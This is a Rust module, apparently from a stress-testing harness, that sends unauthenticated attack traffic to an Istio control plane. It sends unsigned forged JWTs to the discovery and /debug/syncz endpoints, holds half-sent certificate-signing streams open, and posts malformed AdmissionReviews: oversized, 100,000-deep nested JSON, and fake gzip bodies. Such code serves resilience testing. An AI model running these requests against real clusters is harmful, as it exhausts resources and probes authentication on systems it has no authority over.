//! Single calls of people without credentials: made-up tokens, signing requests, AdmissionReviews.

use std::net::SocketAddr;
use std::sync::Arc;

use anyhow::{Result, anyhow, bail, ensure};
use bytes::Bytes;
use h2::client::{Builder, SendRequest};
use http::{Request, request};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_rustls::TlsConnector;

use super::{Attack, Held, Targets, dial};
use crate::proxy::{Task, handshake};
use crate::tls;

/// Claims that an API server could have written: issuer https://kubernetes.default.svc.cluster.local, audience istio-ca, to the year 2100.
const CLAIMS: &str = "eyJpc3MiOiJodHRwczovL2t1YmVybmV0ZXMuZGVmYXVsdC5zdmMuY2x1c3Rlci5sb2NhbCIsImF1ZCI6WyJpc3Rpby1jYSJdLCJleHAiOjQxMDI0NDQ4MDAsInN1YiI6InN5c3RlbTpzZXJ2aWNlYWNjb3VudDphOmIifQ";
const ADS: &str = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources";
const CREATE_CERTIFICATE: &str = "/istio.v1.auth.IstioCertificateService/CreateCertificate";
const LARGE: usize = (3 << 20) - 1_000;

pub(super) async fn strike(attack: Attack, to: &Targets, number: usize) -> Result<Option<Held>> {
    match attack {
        Attack::JunkTokens => {
            let call = grpc(ADS).header("authorization", format!("Bearer {}", token(number)));
            finished(to.secure, number, call, Bytes::new()).await.map(|()| None)
        }
        Attack::JunkTokensOfPages => page(to.http, number).await.map(|()| None),
        Attack::SigningRequests => {
            // The start of a message of 60,000 bytes.
            let (client, connection) = connected(to.secure, number).await?;
            let (response, mut body) = client.ready().await?.send_request(grpc(CREATE_CERTIFICATE).body(())?, false)?;
            body.send_data(Bytes::from_static(&[0, 0, 0, 0xea, 0x60, 0x0a]), false)?;
            refused(&response.await?)?;
            Ok(Some(Box::new((connection, body))))
        }
        Attack::ForgedReviews | Attack::LargeReviews | Attack::DeepReviews => {
            finished(to.webhook, number, review(), body(attack, number)).await.map(|()| None)
        }
        Attack::CompressedReviews => {
            let call = review().header("content-encoding", "gzip");
            finished(to.webhook, number, call, body(attack, number)).await.map(|()| None)
        }
        other => bail!("{other:?} is no call"),
    }
}

fn grpc(path: &str) -> request::Builder {
    let call = Request::post(format!("https://istiod.istio-system.svc{path}"));
    call.header("content-type", "application/grpc").header("te", "trailers")
}

fn review() -> request::Builder {
    Request::post("https://istiod.istio-system.svc/validate").header("content-type", "application/json")
}

/// A JSON Web Token that nobody has signed, another for each number.
fn token(number: usize) -> String {
    format!("eyJhbGciOiJSUzI1NiIsImtpZCI6ImsifQ.{CLAIMS}.{number:0>340x}")
}

fn body(attack: Attack, number: usize) -> Bytes {
    let of = |kind: String, operation: String, object: &str| {
        let kind = json!({ "group": "networking.istio.io", "version": "v1", "kind": kind });
        let request =
            format!("{{\"uid\":\"{number}\",\"kind\":{kind},\"operation\":\"{operation}\",\"object\":{object}}}");
        format!("{{\"apiVersion\":\"admission.k8s.io/v1\",\"kind\":\"AdmissionReview\",\"request\":{request}}}")
    };
    let sidecar = |object: &str| of("Sidecar".to_owned(), "CREATE".to_owned(), object).into();
    match attack {
        Attack::ForgedReviews => of(format!("Kind{number}"), format!("OPERATION-{number}"), "{}").into(),
        Attack::LargeReviews => {
            let hosts = format!("\"./{}\",", "x".repeat(20)).repeat(LARGE / 25);
            sidecar(&format!("{{\"spec\":{{\"egress\":[{{\"hosts\":[{}]}}]}}}}", hosts.trim_end_matches(',')))
        }
        Attack::DeepReviews => sidecar(&format!("{}1{}", "{\"spec\":".repeat(100_000), "}".repeat(100_000))),
        // Begins as gzip does. Nobody should look at more than the header that says so.
        _ => [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0][..], &[0; 1 << 20]].concat().into(),
    }
}

/// Sends a call and reads its whole response. An error status is an error.
async fn finished(to: SocketAddr, number: usize, call: request::Builder, body: Bytes) -> Result<()> {
    let (client, _connection) = connected(to, number).await?;
    let (response, mut sending) = client.ready().await?.send_request(call.body(())?, false)?;
    sending.send_data(body, true)?;
    let response = response.await?;
    refused(&response)?;
    let mut body = response.into_body();
    while let Some(data) = body.data().await {
        let length = data?.len();
        body.flow_control().release_capacity(length)?;
    }
    Ok(())
}

fn refused<B>(response: &http::Response<B>) -> Result<()> {
    let status = response.headers().get("grpc-status");
    ensure!(status.is_none_or(|status| status == "0"), "grpc-status {status:?}");
    ensure!(response.status().is_success(), "status {}", response.status());
    Ok(())
}

async fn connected(to: SocketAddr, number: usize) -> Result<(SendRequest<Bytes>, Task)> {
    let stream = dial(to, number).await?;
    let io = TlsConnector::from(Arc::new(tls::anonymous()?)).connect(tls::server_name(), stream).await?;
    handshake(&Builder::new(), io).await.map_err(|e| anyhow!(e))
}

/// A debug page over HTTP/1.1.
async fn page(to: SocketAddr, number: usize) -> Result<()> {
    let mut stream = dial(to, number).await?;
    let call = format!(
        "GET /debug/syncz HTTP/1.1\r\nHost: istiod.istio-system.svc\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
        token(number)
    );
    stream.write_all(call.as_bytes()).await?;
    let mut head = [0; 12];
    stream.read_exact(&mut head).await?;
    ensure!(&head[9..] == b"200", "status {}", String::from_utf8_lossy(&head[9..]));
    Ok(())
}
